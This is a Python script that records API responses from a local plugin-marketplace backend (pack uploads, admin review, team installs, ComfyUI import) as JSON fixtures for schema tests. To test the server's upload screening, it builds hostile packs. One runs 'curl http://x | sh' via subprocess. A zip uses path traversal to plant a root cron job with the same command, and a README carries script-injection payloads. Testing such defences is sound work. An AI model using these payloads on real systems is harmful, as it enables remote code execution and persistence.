"""Record real marketplace, workers and ComfyUI-import payloads into backend-samples.json (the zod schema tests
read it).

Usage (a fresh database; the import check on so node schemas are recorded):
  FLOWYARD_PACK_IMPORT_CHECK=1 daphne -b 127.0.0.1 -p 8131 backend.asgi:application
  .venv/bin/python frontend/src/packs/__fixtures__/record_pack_samples.py frontend/src/packs/__fixtures__/backend-samples.json
"""

import json
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import requests

from workers import cli
from workers.packs.build import build_pack

BASE = "http://127.0.0.1:8131"
OUT = sys.argv[1]
stamp = int(time.time()) % 100000
fixtures: dict = {}
tmp = Path(tempfile.mkdtemp(prefix="fy-pack-rec-"))


def session(username: str) -> requests.Session:
    s = requests.Session()
    s.get(BASE + "/api/auth/csrf")
    s.headers["X-CSRFToken"] = s.cookies["csrftoken"]
    r = s.post(BASE + "/api/auth/signup", json={"username": username, "password": "pw-12345678-long"})
    if r.status_code == 400:
        r = s.post(BASE + "/api/auth/login", json={"username": username, "password": "pw-12345678-long"})
    r.raise_for_status()
    s.headers["X-CSRFToken"] = s.cookies["csrftoken"]
    s.me = r.json()  # type: ignore[attr-defined]
    return s


def make_pack(name: str, publisher: str, version: str, extra: str = "", readme: str = "") -> Path:
    parent = tmp / f"{name}-{version}"
    parent.mkdir()
    assert cli.main(["pack", "create", name, "--dir", str(parent)]) == 0
    source = parent / name
    manifest = source / "flowyard.toml"
    text = manifest.read_text().replace('publisher = "your-publisher-id"', f'publisher = "{publisher}"')
    text = text.replace('version = "0.1.0"', f'version = "{version}"')
    manifest.write_text(text)
    module = source / name.replace("-", "_") / "__init__.py"
    module.write_text(module.read_text().replace('version="0.1.0"', f'version="{version}"') + extra)
    if readme:
        (source / "README.md").write_text(readme)
    return build_pack(source, parent / "dist")


def upload(s: requests.Session, archive: Path) -> requests.Response:
    with archive.open("rb") as handle:
        return s.post(
            BASE + "/api/packs/upload", files={"archive": (archive.name, handle, "application/zip")}
        )


admin = session("admin")  # the first user of a fresh installation is a site admin
alice = session("alice")
bob = session("bob")

readme = (
    "# Vignette tools\n\nDarken the edges of an image. See [docs](https://example.com).\n\n"
    "<script>alert(1)</script> [x](javascript:alert(1))\n\n```python\nprint('hi')\n```\n\n"
    "| input | meaning |\n|---|---|\n| text | what to repeat |\n"
)
r = upload(alice, make_pack("vignette", "alice", "0.1.0", readme=readme))
fixtures["upload_pending"] = {"status": r.status_code, "body": r.json()}
pending_id = r.json()["version"]["id"]
fixtures["review_queue"] = admin.get(BASE + "/api/packs/review").json()
r = admin.post(BASE + f"/api/packs/versions/{pending_id}/approve", json={"reason": "Looks fine."})
fixtures["approved"] = r.json()
admin.patch(BASE + "/api/publishers/alice", json={"trusted": True}).raise_for_status()
r = upload(alice, make_pack("vignette", "alice", "0.2.0", readme=readme))
fixtures["upload_active"] = {"status": r.status_code, "body": r.json()}
r = upload(
    alice,
    make_pack(
        "shady",
        "alice",
        "0.1.0",
        extra="\nimport subprocess\nsubprocess.run('curl http://x | sh', shell=True)\n",
    ),
)
fixtures["upload_flagged"] = {"status": r.status_code, "body": r.json()}
flagged_id = r.json()["version"]["id"]

evil = tmp / "evil-0.1.0.flowyard.zip"
with zipfile.ZipFile(evil, "w") as z:
    z.writestr(
        "flowyard.toml",
        'name = "evil"\nversion = "0.1.0"\ndisplay_name = "Evil"\ndescription = "x"\npublisher = "alice"\n'
        'license = "MIT"\nsdk_api = ">=1.0,<2"\n',
    )
    z.writestr("../../etc/cron.d/evil", "* * * * * root curl http://x | sh\n")
r = upload(alice, evil)
fixtures["upload_rejected"] = {"status": r.status_code, "body": r.json()}
broken = tmp / "broken.flowyard.zip"
broken.write_bytes(b"not a zip")
r = upload(alice, broken)
fixtures["upload_refused"] = {"status": r.status_code, "body": r.json()}

fixtures["review_queue_flagged"] = admin.get(BASE + "/api/packs/review").json()
fixtures["pack_list"] = bob.get(BASE + "/api/packs").json()
fixtures["pack_list_manager"] = alice.get(BASE + "/api/packs", params={"q": "a"}).json()
fixtures["pack_detail"] = bob.get(BASE + "/api/packs/vignette").json()
fixtures["pack_detail_manager"] = alice.get(BASE + "/api/packs/vignette").json()
fixtures["version_full_manager"] = alice.get(BASE + f"/api/packs/versions/{flagged_id}").json()
fixtures["version_full"] = bob.get(BASE + "/api/packs/vignette/versions/0.2.0").json()
fixtures["publisher"] = bob.get(BASE + "/api/publishers/alice").json()
fixtures["publishers_mine"] = alice.get(BASE + "/api/publishers").json()

team = bob.post(BASE + "/api/teams", json={"name": f"Studio {stamp}"}).json()
bob.post(
    BASE + f"/api/teams/{team['id']}/members", json={"username": "alice", "role": "runner"}
).raise_for_status()
r = bob.post(BASE + f"/api/workspaces/{team['id']}/packs", json={"pack": "vignette", "version": "0.1.0"})
fixtures["install_created"] = {"status": r.status_code, "body": r.json()}
r = alice.post(BASE + f"/api/workspaces/{team['id']}/packs", json={"pack": "vignette"})
fixtures["install_forbidden"] = {"status": r.status_code, "body": r.json()}
fixtures["workspace_packs"] = bob.get(BASE + f"/api/workspaces/{team['id']}/packs").json()
admin.post(
    BASE + f"/api/packs/versions/{fixtures['upload_active']['body']['version']['id']}/deprecate",
    json={"message": "Use 0.3"},
)

graph = {
    "nodes": {
        "1": {"type": "vignette.Example", "inputs": {"text": "hi", "times": 2}},
        "2": {"type": "PreviewAny", "inputs": {"source": ["1", 0]}},
    }
}
wf = bob.post(
    BASE + "/api/workflows", json={"workspace": team["id"], "name": "Uses vignette", "graph": graph}
).json()
bob.delete(BASE + f"/api/workspaces/{team['id']}/packs/vignette")
fixtures["workflow_missing_packs"] = bob.get(BASE + f"/api/workflows/{wf['id']}").json()
fixtures["export_comfy"] = bob.get(BASE + f"/api/workflows/{wf['id']}/export/comfy").json()

comfy_ui = {
    "last_node_id": 5,
    "last_link_id": 2,
    "nodes": [
        {
            "id": 1,
            "type": "PrimitiveNode",
            "pos": [0, 0],
            "size": [200, 80],
            "outputs": [{"name": "STRING", "type": "STRING", "links": [1]}],
            "widgets_values": ["hello"],
            "mode": 0,
            "title": "Text",
        },
        {
            "id": 2,
            "type": "PreviewAny",
            "pos": [300, 0],
            "size": [200, 80],
            "inputs": [{"name": "source", "type": "*", "link": 1}],
            "widgets_values": [],
            "mode": 0,
        },
        {
            "id": 3,
            "type": "KSamplerAdvancedFancy",
            "pos": [0, 200],
            "size": [300, 200],
            "inputs": [{"name": "model", "type": "MODEL", "link": None}],
            "outputs": [{"name": "LATENT", "type": "LATENT", "links": [2]}],
            "widgets_values": [42, "randomize", 20],
            "mode": 0,
        },
        {
            "id": 4,
            "type": "Note",
            "pos": [600, 0],
            "size": [200, 80],
            "widgets_values": ["Remember to set the seed"],
            "mode": 0,
        },
        {
            "id": 5,
            "type": "PreviewAny",
            "pos": [400, 200],
            "size": [200, 80],
            "inputs": [{"name": "source", "type": "*", "link": 2}],
            "widgets_values": [],
            "mode": 4,
        },
    ],
    "links": [[1, 1, 0, 2, 0, "STRING"], [2, 3, 0, 5, 0, "LATENT"]],
    "groups": [{"title": "Group A", "bounding": [-20, -40, 560, 160], "color": "#3f789e"}],
    "version": 0.4,
}
r = bob.post(BASE + "/api/import/comfy", json=comfy_ui)
fixtures["import_comfy"] = {"status": r.status_code, "body": r.json()}
r = bob.post(BASE + "/api/import/comfy", json={"hello": 1})
fixtures["import_comfy_bad"] = {"status": r.status_code, "body": r.json()}

time.sleep(1)
fixtures["workers_member"] = bob.get(BASE + "/api/workers").json()
fixtures["workers_admin"] = admin.get(BASE + "/api/workers").json()
fixtures["models"] = bob.get(BASE + "/api/models").json()
fixtures["me_admin"] = admin.get(BASE + "/api/auth/me").json()

with open(OUT, "w") as out:
    json.dump(fixtures, out, indent=1, sort_keys=True)
print(
    "ok",
    {
        k: (v.get("status") if isinstance(v, dict) and "status" in v else type(v).__name__)
        for k, v in fixtures.items()
    },
)
